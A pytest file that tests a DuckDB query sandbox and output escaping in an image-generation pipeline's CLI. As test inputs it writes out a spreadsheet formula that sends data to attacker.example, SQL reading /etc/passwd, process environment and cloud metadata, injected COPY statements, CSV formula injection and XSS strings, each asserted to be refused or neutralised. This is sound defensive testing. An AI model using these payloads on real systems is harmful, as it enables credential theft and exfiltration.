"""The user's own SQL runs inside a boundary: the storage root, read-only.

Real components: the simulator, the local store or SeaweedFS S3 (parametrized), DuckDB with
its own ``enable_external_access`` / ``allowed_directories`` / ``lock_configuration``, the
CLI through ``CliRunner``. Nothing is faked.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path

import duckdb
import pytest
from click.testing import CliRunner

from ideogram_pipeline.batches.files import load_batch
from ideogram_pipeline.cli import main
from ideogram_pipeline.history.sandbox import QueryRefused, check_statements, run_query
from ideogram_pipeline.runs.runner import execute_batch
from ideogram_pipeline.safe_output import escape_html, escape_markdown_cell, neutralise_csv_cell
from ideogram_pipeline.settings import Settings, load_settings
from ideogram_pipeline.simulator.server import Simulator, SimulatorConfig, running_simulator
from tests.conftest import new_bucket
from tests.support.seaweed import SeaweedServer

FORMULA_PROMPT = '=HYPERLINK("http://attacker.example/?d="&A1, "click")'


@pytest.fixture(scope="module")
def sim() -> Iterator[Simulator]:
    with running_simulator(SimulatorConfig(image_scale=0.25)) as s:
        yield s


@pytest.fixture(scope="module", params=["local", "s3"])
def root(
    request: pytest.FixtureRequest, sim: Simulator, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Settings]:
    """A storage root holding one small batch, with the environment pointing at it."""
    folder = tmp_path_factory.mktemp(f"sandbox-{request.param}")
    env = {"IDEOGRAM_API_KEY": sim.api_key, "IDEOGRAM_BASE_URL": sim.base_url}
    if request.param == "s3":
        server: SeaweedServer = request.getfixturevalue("s3_server")
        env |= {"IDEOGRAM_STORAGE": f"s3://{new_bucket(server)}/history", **server.env()}
    else:
        env["IDEOGRAM_STORAGE"] = str(folder / "data")
    with pytest.MonkeyPatch.context() as patch:
        for name in ("AWS_ENDPOINT_URL", "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"):
            patch.delenv(name, raising=False)
        for name, value in env.items():
            patch.setenv(name, value)
        settings = load_settings(env)
        batch = folder / "sandbox.csv"
        with batch.open("w", newline="", encoding="utf-8") as handle:
            csv.writer(handle).writerows([["prompt"], [FORMULA_PROMPT], ["A quiet harbour"]])
        execute_batch(load_batch(batch), settings)
        yield settings


def _cli(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(main, list(args))
    return result.exit_code, result.output


@pytest.mark.slow
def test_the_history_is_queryable(root: Settings) -> None:
    frame = run_query(root, "SELECT status, count(*) AS n FROM generations GROUP BY status")
    assert frame.to_dict("records") == [{"status": "stored", "n": 2}]
    code, output = _cli("query", "SELECT count(*) AS n FROM generation_records", "--format", "json")
    assert code == 0 and '"n":2' in output.replace(" ", "")


@pytest.mark.parametrize(
    ("sql", "needle"),
    [
        ("SELECT * FROM read_csv('/etc/passwd')", 'Cannot access file "/etc/passwd"'),
        ("SELECT * FROM read_text('http://169.254.169.254/latest/meta-data/')", "Cannot access"),
        ("SELECT getenv('IDEOGRAM_API_KEY')", "getenv does not exist"),
    ],
)
def test_outside_the_root_is_refused(root: Settings, sql: str, needle: str) -> None:
    code, output = _cli("query", sql)
    assert code != 0 and needle in output, output
    assert "root:x:0:0" not in output  # no line of /etc/passwd ever printed


@pytest.mark.parametrize(
    ("sql", "refused"),
    [
        ("SELECT * FROM read_text('/proc/self/environ')", None),  # runs, then DuckDB refuses
        ("SELECT * FROM glob('/*')", None),
        ("DESCRIBE generations", None),
        ("SUMMARIZE SELECT 1", None),
        ("SET enable_external_access = true", "SET"),
        ("RESET lock_configuration", "SET"),
        ("COPY (SELECT 1) TO 'evil.csv'", "COPY"),
        ("EXPORT DATABASE 'out'", "EXPORT"),
        ("ATTACH 'other.duckdb'", "ATTACH"),
        ("INSTALL json", "LOAD"),
        ("LOAD httpfs", "LOAD"),
        ("CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')", "CREATE"),
        ("SELECT 1; COPY (SELECT 1) TO 'evil.csv'", "COPY"),
        ("SELECT * FROM delta_scan('/elsewhere/table')", "delta_scan"),
        ("EXPLAIN SELECT * FROM delta_scan('/elsewhere/table')", "delta_scan"),
        ("SELECT * FROM query('SELECT * FROM delta_' || 'scan(''/x'')')", "query"),
        ("WITH t AS (FROM query_table('generations')) FROM t", "query_table"),
    ],
)
def test_only_reading_statements_run(sql: str, refused: str | None) -> None:
    con = duckdb.connect()
    try:
        if refused is None:
            check_statements(con, sql)
        else:
            pattern = rf"^{refused}(\(\) is| statements are) not allowed"
            with pytest.raises(QueryRefused, match=pattern):
                check_statements(con, sql)
    finally:
        con.close()


@pytest.mark.slow
def test_neighbours_of_the_root_are_outside_it(root: Settings) -> None:
    if root.is_s3:
        bucket = root.storage.removeprefix("s3://").split("/")[0]
        neighbours = [
            f"s3://{bucket}/history-private/x.parquet",
            "s3://some-other-bucket/x.parquet",
        ]
    else:
        folder = Path(root.storage).parent
        sibling = folder / "data-private"
        sibling.mkdir(exist_ok=True)
        (sibling / "x.csv").write_text("secret\n1\n")
        neighbours = [str(sibling / "x.csv"), str(folder / "data" / ".." / "sandbox.csv")]
    for path in neighbours:
        with pytest.raises(Exception, match=r"Cannot access file|HTTP 403"):
            run_query(root, f"SELECT * FROM read_csv('{path}')")


@pytest.mark.slow
def test_secrets_stay_redacted(root: Settings) -> None:
    with pytest.raises(QueryRefused):
        run_query(root, "CREATE SECRET x (TYPE s3)")
    if not root.is_s3:
        return  # no secret exists; listing them would need ~/.duckdb, which is refused
    assert root.aws_secret_access_key
    shown = run_query(root, "SELECT * FROM duckdb_secrets()").to_string()
    assert "secret=redacted" in shown and root.aws_secret_access_key not in shown
    with pytest.raises(Exception, match="unredacted"):
        run_query(root, "SELECT * FROM duckdb_secrets(redact = false)")


@pytest.mark.slow
def test_the_history_cannot_be_written_through_a_query(root: Settings) -> None:
    target = "metadata/generations/date=2026-01-01/batch=evil/x.parquet"
    location = f"{root.storage}/{target}" if root.is_s3 else str(Path(root.storage) / target)
    code, output = _cli("query", f"COPY (SELECT 1 AS x) TO '{location}' (FORMAT parquet)")
    assert code != 0 and "COPY statements are not allowed" in output
    assert run_query(root, "SELECT count(*) AS n FROM generations")["n"][0] == 2


def test_export_where_runs_inside_the_boundary(root: Settings, tmp_path: Path) -> None:
    out = tmp_path / "export"
    code, output = _cli(
        "export", "--where", "EXISTS (SELECT * FROM read_csv('/etc/passwd'))", "--to", str(out)
    )
    assert code != 0 and "Cannot access file" in output
    code, output = _cli(
        "export",
        "--where",
        "true); COPY (SELECT 1) TO 'x.csv'; SELECT 1 WHERE (true",
        "--to",
        str(out),
    )
    assert code != 0 and "COPY statements are not allowed" in output


@pytest.mark.slow
def test_csv_output_neutralises_formulas(root: Settings) -> None:
    code, output = _cli(
        "query",
        'SELECT prompt AS "=cmd|calc", -1 AS n FROM generations ORDER BY "row"',
        "--format",
        "csv",
    )
    assert code == 0, output
    rows = list(csv.reader(io.StringIO(output)))
    assert rows[0] == ["'=cmd|calc", "n"]
    assert rows[1] == ["'" + FORMULA_PROMPT, "-1"]  # text neutralised, numbers untouched


# -- the helpers themselves ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        ("", ""),
        (-3, -3),
        (1.5, 1.5),
        (None, None),
    ],
)
def test_neutralise_csv_cell(value: object, expected: object) -> None:
    assert neutralise_csv_cell(value) == expected


def test_markdown_and_html_escaping() -> None:
    hostile = "a | b <script>alert('x')</script>\nnext & line"
    cell = escape_markdown_cell(hostile)
    assert "\n" not in cell and "<script>" not in cell
    assert re.search(r"(?<!\\)\|", cell) is None  # every pipe escaped: one table cell
    assert cell == "a \\| b &lt;script&gt;alert('x')&lt;/script&gt; next &amp; line"
    assert escape_markdown_cell("x" * 100, limit=10) == "x" * 9 + "…"
    assert escape_markdown_cell(None) == ""
    assert escape_html('"><img src=x onerror=alert(1)>') == (
        "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;"
    )
